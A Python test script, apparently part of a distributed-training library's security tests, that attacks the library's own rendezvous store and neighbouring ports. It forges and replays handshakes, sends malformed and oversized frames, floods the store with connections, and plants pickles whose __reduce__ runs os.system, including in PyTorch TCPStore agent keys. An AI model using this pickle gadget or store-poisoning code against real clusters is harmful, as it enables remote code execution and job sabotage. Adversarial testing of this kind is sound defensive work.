"""What other users of a host, and processes on other hosts, try against a job; run by `python -I -S attacker.py`.

The attacker knows what is public: where the job's store listens, the names of its keys, a handshake that was recorded,
and this source. What it is to do comes from standard input as JSON; what came of it goes to standard output.
"""

import base64
import collections
import contextlib
import itertools
import json
import os
import pickle
import resource
import selectors
import socket
import struct
import sys
import time
from pathlib import Path

SETTINGS = json.load(sys.stdin) if __name__ == "__main__" else {}
package = sys.modules["distman"] = type(sys)("distman")  # of which it needs nothing but the path
package.__path__ = [SETTINGS.get("package", "")]

from distman._store import frames  # noqa: E402
from distman._store.handshake import (  # noqa: E402
    CHALLENGE_HEAD_BYTES,
    MAC_BYTES,
    MAGIC,
    MEMBER,
    NO_SECRET,
    NONCE_BYTES,
    OPENING_BYTES,
    VISITOR,
    WATCHER,
    Hello,
    door_key,
    mac,
)
from distman._store.transport import other_place  # noqa: E402

AT_ONCE = 48  # tries: fewer than the strangers for whom a store has room
PATIENCE = 10.0  # seconds for an answer that takes milliseconds
MORE_PATIENCE = 0.1  # seconds for more of it
CROWD_PATIENCE = 60.0  # seconds until everybody of a crowd must have been sent away
CROWD = 1_000
PAUSE = 0.01  # seconds between two looks for a store that is not there yet: they cost a core otherwise
DRIP_EVERY = 0.2  # seconds
LIMIT = struct.pack("<Q", 1000)
AGENT_HELLO = struct.pack("<BI", 0, 0x3C85F7CE)  # of torch's TCPStore, as all that follows
AGENT_SET = b"\1"
AGENT_LIST = b"\x11"
AGENT_KEYS = ["torch.rendezvous.none", "torch.rendezvous.attacked"]  # where agents look that meet by c10d
LISTENS = "0A"  # a state in /proc/net/tcp
LOOPBACK = "127.0.0.1"
SQUATTED = "squat"  # in the names that other attackers have taken
MANY = b"x" * (1 << 18)


class UnansweredError(Exception):
    """The other side did not even make its own proof."""


class Evil:
    """Runs a command where it is unpickled."""

    def __reduce__(self):
        return os.system, (f"touch {SETTINGS['marker']}",)


def connect(address):
    guest = socket.socket(family_of(address))
    try:
        guest.settimeout(PATIENCE)
        guest.connect(address)
        if not isinstance(address, str):
            guest.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # its port is free at once
    except OSError:
        guest.close()
        raise
    return guest


def family_of(address):
    if isinstance(address, str):
        return socket.AF_UNIX
    return socket.AF_INET6 if ":" in address[0] else socket.AF_INET


# What follows are generators: each lets the others go on where it has to wait for an answer, and returns what it has
# heard at last. So one process makes thousands of tries a second.


def say(guest, *messages, is_all=False):
    """Say something, be it all there is to say, and return what is answered until the other side closes."""
    heard = bytearray()
    try:
        for message in messages:
            guest.sendall(message)
        if is_all:
            guest.shutdown(socket.SHUT_WR)
        yield
        while piece := guest.recv(1 << 16):
            heard += piece
            guest.settimeout(MORE_PATIENCE)
    except TimeoutError:
        heard += b"is kept waiting"  # a stranger whom nobody sends away has got something, too
    except OSError:  # sent away
        pass
    return bytes(heard)


def read(guest, num_bytes):
    heard = b""
    while len(heard) < num_bytes:
        piece = guest.recv(num_bytes - len(heard))
        if not piece:
            raise UnansweredError
        heard += piece
    return heard


def challenge(guest, opening):
    """Return the nonces and the proof of the store, and what it sends beside."""
    try:
        guest.sendall(opening)
        yield
        head = read(guest, CHALLENGE_HEAD_BYTES)
        (length,) = frames.LENGTH.unpack(head[NONCE_BYTES:])
        credential = read(guest, length)
        proof = read(guest, MAC_BYTES)
    except OSError as error:
        raise UnansweredError from error
    return opening[len(MAGIC) :] + head[:NONCE_BYTES], proof, credential


def forged(number, nonces, theirs, where, packed):
    """Return a proof of who does not know the secret, each time of another kind."""
    recorded = bytes.fromhex(SETTINGS["recorded"]["proof"])
    return [
        lambda: mac(door_key(None, SETTINGS["job"].encode()), b"client", nonces, where, packed),
        lambda: mac(NO_SECRET, b"client", nonces, where, packed),
        lambda: os.urandom(MAC_BYTES),
        lambda: theirs,
        lambda: recorded[:MAC_BYTES],
        lambda: mac(door_key(b"guess %d" % number, SETTINGS["job"].encode()), b"client", nonces, where, packed),
    ][number % 6]()


def enter(address, number, hello, *requests):
    """Try to be let in, and to have requests carried out; return whatever comes after the store's own proof."""
    with connect(address) as guest:
        nonces, theirs, _ = yield from challenge(guest, MAGIC + os.urandom(NONCE_BYTES))
        packed = hello.pack()
        proof = forged(number, nonces, theirs, other_place(guest), packed) + frames.LENGTH.pack(len(packed)) + packed
        if number % 2:
            return (yield from say(guest, proof, *requests))
        welcome = yield from say(guest, proof)  # a store carries out nothing that comes before its answer
        return welcome and welcome + (yield from say(guest, *requests))


def join(role, rank):
    return lambda address, number: enter(address, number, Hello(role, rank, os.getpid()))


def ask(operation, *fields):
    """Ask for something, in turn after a forged proof, without any, and before any word."""

    def attempt(address, number):
        request = frames.request(1, operation, fields)
        if number % 3 == 0:
            hello = Hello(MEMBER, number % 4 - 1, os.getpid())
            return (yield from enter(address, number, hello, request * 10))
        with connect(address) as guest:
            if number % 3 == 1:
                yield from challenge(guest, MAGIC + os.urandom(NONCE_BYTES))
            return (yield from say(guest, request * 10))

    return attempt


def replay(address, _number):
    """Say again what a rank has said, and then what it would say next."""
    recorded = SETTINGS["recorded"]
    with connect(address) as guest:
        yield from challenge(guest, bytes.fromhex(recorded["opening"]))
        return (yield from say(guest, bytes.fromhex(recorded["proof"]), frames.request(1, frames.NUM_KEYS, [])))


def malformed(address, number):
    with connect(address) as guest:
        if number % 2:
            return (yield from say(guest, os.urandom(1 + number % 3000), is_all=True))
        yield from challenge(guest, MAGIC + os.urandom(NONCE_BYTES))
        return (yield from say(guest, os.urandom(1 + number % 300), is_all=True))


def huge(address, number):
    length = frames.LENGTH.pack([0xFFFFFFFF, frames.MOST_BYTES, 1 << 31, 65][number % 4])
    with connect(address) as guest:
        if number % 2:
            return (yield from say(guest, length, MANY, is_all=True))
        yield from challenge(guest, MAGIC + os.urandom(NONCE_BYTES))
        return (yield from say(guest, os.urandom(MAC_BYTES) + length, MANY, is_all=True))


def pickles(address, number):
    """Send a pickle wherever bytes are taken."""
    evil = pickle.dumps(Evil(), protocol=number % (pickle.HIGHEST_PROTOCOL + 1))
    sized = [evil, frames.LENGTH.pack(len(evil)) + evil, struct.pack(">Q", len(evil)) + evil, evil + b"\n"]
    with connect(address) as guest:
        if number % 3 == 0:
            return (yield from say(guest, sized[number % 4], is_all=True))
        yield from challenge(guest, MAGIC + os.urandom(NONCE_BYTES))
        if number % 3 == 1:
            proof = os.urandom(MAC_BYTES) + frames.LENGTH.pack(len(evil)) + evil
            return (yield from say(guest, proof, is_all=True))
        return (yield from say(guest, frames.request(1, frames.SET, [os.urandom(4), evil]), is_all=True))


def kinds():
    """Return what is tried at the door of a store, by name."""
    notice, keys = SETTINGS["notice"].encode(), {name: key.encode() for name, key in SETTINGS["keys"].items()}
    some, value = keys["failure"], b"1"
    return {
        **{f"join as rank {rank}": join(MEMBER, rank) for rank in (-1, 0, 1, 2)},
        "join as a watcher": join(WATCHER, 1),
        "join as a visitor": join(VISITOR, 0),
        "replay": replay,
        "read a key": ask(frames.GET, LIMIT, keys["verdict"]),
        "read several keys": ask(frames.MULTI_GET, LIMIT, keys["verdict"], keys["peer address"]),
        "look for a key": ask(frames.CHECK, keys["verdict"]),
        "wait for a key": ask(frames.WAIT, LIMIT, b"", keys["verdict"]),
        "write a key": ask(frames.SET, keys["verdict"], value),
        "write several keys": ask(frames.MULTI_SET, keys["verdict"], value),
        "exchange a key": ask(frames.COMPARE_SET, keys["verdict"], b"", value),
        "lengthen a key": ask(frames.APPEND, keys["queries"], value),
        "delete a key": ask(frames.DELETE, keys["verdict"]),
        "count the keys": ask(frames.NUM_KEYS),
        "arrive at a barrier": ask(frames.ARRIVE, LIMIT, b"barrier", frames.NUMBER.pack(1), b"k", value),
        "false notice": ask(frames.SET, some, notice),
        "false news": ask(frames.ADD, keys["news"], frames.NUMBER.pack(1)),
        "false stop": ask(frames.SET, keys["stop"], value),
        "false question": ask(frames.SET, keys["query"], b"[0, 1, 2]"),
        "false closing": ask(frames.SET, keys["closing"], value),
        "false early failure": ask(frames.SET, keys["early failure"], notice),
        "ask who is there": ask(frames.MEMBERS),
        "false end": ask(frames.WILL, some, keys["news"], b"", value, value),
        "shut the store": ask(frames.SHUT),
        "malformed": malformed,
        "huge": huge,
        "pickles": pickles,
    }


def attack(addresses, attempts):
    """Return, by kind, how many tries reached somebody, and how many of them got anything."""
    results = {name: [0, 0] for name in attempts}
    for name, attempt in attempts.items():
        tries = (gain_of(attempt, addresses[n % len(addresses)], n) for n in range(SETTINGS["tries"]))
        running = collections.deque(itertools.islice(tries, AT_ONCE))
        while running:
            one = running.popleft()
            try:
                next(one)
                running.append(one)
            except StopIteration as end:
                results[name][0] += end.value is not None
                results[name][1] += bool(end.value)
                running.extend(itertools.islice(tries, 1))
    return results


def gain_of(attempt, address, number):
    """Return whether a try got anything; None where it did not even reach the store."""
    try:
        heard = yield from attempt(address, number)
    except UnansweredError:
        return False
    except OSError:
        return None
    return bool(heard) and not is_challenge(heard)


def is_challenge(heard):
    """Return whether what was heard is no more than a store's proof of itself, which everybody gets who asks."""
    if len(heard) < CHALLENGE_HEAD_BYTES + MAC_BYTES:
        return False
    (length,) = frames.LENGTH.unpack_from(heard, NONCE_BYTES)
    return len(heard) == CHALLENGE_HEAD_BYTES + length + MAC_BYTES


def crowd(doors):
    """Open many connections at once; half of them say nothing, the others a byte now and then."""
    opening = MAGIC + bytes(NONCE_BYTES)
    guests, reached, gains = {}, 0, 0
    selector = selectors.DefaultSelector()
    for number, address in zip(range(CROWD), itertools.cycle(doors)):
        try:
            guest = connect(address)
        except OSError:
            continue
        reached += 1
        guest.settimeout(0)
        selector.register(guest, selectors.EVENT_READ)
        guests[guest] = number % 2
    until = time.monotonic() + CROWD_PATIENCE
    for place in itertools.count():
        if not guests or time.monotonic() > until:
            break
        for guest in [guest for guest, drips in guests.items() if drips]:
            try:
                guest.send(opening[place % OPENING_BYTES : place % OPENING_BYTES + 1])
            except OSError:
                continue  # it has been sent away, and is told below
        for key, _ in selector.select(DRIP_EVERY):
            try:
                heard = key.fileobj.recv(1 << 16)
            except ConnectionError:
                heard = b""
            gains += bool(heard) and not is_challenge(heard)
            if not heard:
                selector.unregister(key.fileobj)
                key.fileobj.close()
                del guests[key.fileobj]
    return {"a thousand connections, idle and slow": [reached, gains + len(guests)]}


def shout(make):
    """Say something at any port; nobody answers there, or sends anybody away."""

    def attempt(address, number):
        with connect(address) as guest:
            guest.settimeout(0)
            try:
                guest.send(make(number))
                yield
                return guest.recv(1 << 16)
            except OSError:
                return b""

    return attempt


def plant(address, number):
    """Leave a pickle in a store of torchrun's agents: where they look for one, and by turns in all other keys too."""
    evil = pickle.dumps(Evil(), protocol=number % (pickle.HIGHEST_PROTOCOL + 1))
    value = [evil, base64.b64encode(evil)][number // 6 % 2]  # last as the agents would read it
    with connect(address) as guest:
        guest.sendall(AGENT_HELLO + AGENT_LIST)
        yield
        found = list_of(guest)
        keys = {key for key in found if b"torch.rendezvous." in key or SETTINGS["plants"] == "everywhere"}
        keys |= {b"/" + key.encode() for key in AGENT_KEYS}
        guest.sendall(b"".join(AGENT_SET + sized(key) + sized(value) for key in keys) + AGENT_LIST)
        yield
        list_of(guest)  # what was said before has been heard
    return b""


def list_of(guest):
    """Return the keys that a store of torch lists, to everybody who asks."""
    (number,) = struct.unpack("<Q", read(guest, 8))
    return [read(guest, struct.unpack("<Q", read(guest, 8))[0]) for _ in range(number)]


def sized(field):
    return struct.pack("<Q", len(field)) + field


def kinds_anywhere():
    """Return what is tried at the other ports of a rank: gloo's."""
    line = SETTINGS["notice"].encode() + b"\n"
    return {
        "false notice at other ports": shout(lambda _: os.urandom(8).hex().encode() + b"\n" + line),
        "notice without a word at other ports": shout(lambda _: line * 3),
        "malformed at other ports": shout(lambda _: os.urandom(512)),
        "small numbers at other ports": shout(lambda number: struct.pack("<Q", number % 64) * 4),
        "pickles at other ports": shout(lambda _: pickle.dumps(Evil()) + b"\n"),
    }


def chase():
    """Connect to whatever begins to listen to the loopback, as gloo does where a group is made, until told to end.

    gloo reads a number from each connection, which says for which of its pairs it is.
    """
    settings = SETTINGS["chase"]
    count, kind = Path(settings["count"]), settings["kind"]
    seen, guests, tries = set(loopback_ports()), [], 0
    count.touch()
    while not Path(settings["end"]).exists():
        for port in loopback_ports() - seen:
            seen.add(port)
            with contextlib.suppress(OSError):
                for number in range(settings["at_each"]):
                    guests.append(connect((LOOPBACK, port)))
                    tries += 1
                    guests[-1].sendall(b"" if kind == "silent" else WORDS[kind](number))
                    if kind == "number, closed":
                        guests[-1].setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, bytes(8))  # what was said arrives
                        guests.pop().close()
                with count.open("a") as file:
                    file.write(".")
    return {f"{kind} at gloo's new listeners": [tries, 0]}


WORDS = {
    "number": lambda number: struct.pack("<Q", number),
    "number, closed": lambda number: struct.pack("<Q", number),
    "malformed": lambda _: os.urandom(512),
    "small": lambda number: struct.pack("<Q", number)[: number % 8],
}


def loopback_ports():
    rows = [row.split() for row in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return {int(row[1][9:], 16) for row in rows if row[3] == LISTENS and row[1].startswith("0100007F")}


def names_of_stores():
    """Return all names of this host's own at which a store may listen."""
    rows = [row.split(maxsplit=7) for row in Path("/proc/net/unix").read_text(errors="replace").splitlines()]
    found = [row[7] for row in rows if len(row) == 8 and row[7].startswith("@distman/") and row[3] == "00010000"]
    return [name.replace("@", "\0", 1) for name in found if SQUATTED not in name]


def wait_for_doors():
    """Return where the store listens, as soon as it does."""
    until = time.monotonic() + CROWD_PATIENCE
    while True:
        doors = known_doors()
        try:
            if doors:
                connect(doors[0]).close()
                return doors
        except OSError:
            pass
        if time.monotonic() > until:
            return []
        time.sleep(PAUSE)


def wait_for_agents():
    """Return where something listens to all interfaces, as the stores of torchrun's agents do, as soon as it does."""
    until = time.monotonic() + CROWD_PATIENCE
    while not (found := [(LOOPBACK, port) for port in ports_open_to_all()]) and time.monotonic() < until:
        time.sleep(PAUSE)
    return found


def ports_open_to_all():
    rows = [row.split() for row in Path("/proc/net/tcp6").read_text().splitlines()[1:]]
    local = [row[1].split(":") for row in rows if row[3] == LISTENS]
    return [int(port, 16) for address, port in local if not address.strip("0")]


def known_doors():
    return resolved(SETTINGS["addresses"]) or names_of_stores()


def resolved(addresses):
    return [(socket.getaddrinfo(host, None)[0][4][0], port) for host, port in addresses]


def main():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    results = {}
    doors = wait_for_doors() if SETTINGS["waits"] else known_doors()
    names = SETTINGS["kinds"]
    if doors:
        results |= attack(doors, {name: one for name, one in kinds().items() if names is None or name in names})
    if SETTINGS["chase"]:
        results |= chase()
    if SETTINGS["plants"] and (agents := wait_for_agents()):
        results |= attack(agents, {"pickles in the agents' stores": plant})
    if doors and SETTINGS["crowd"]:
        results |= crowd(doors)
    if SETTINGS["others"]:
        results |= attack(resolved(SETTINGS["others"]), kinds_anywhere())
    sys.stdout.write(json.dumps({"uid": os.geteuid(), "doors": len(doors), "results": results}))


if __name__ == "__main__":
    main()
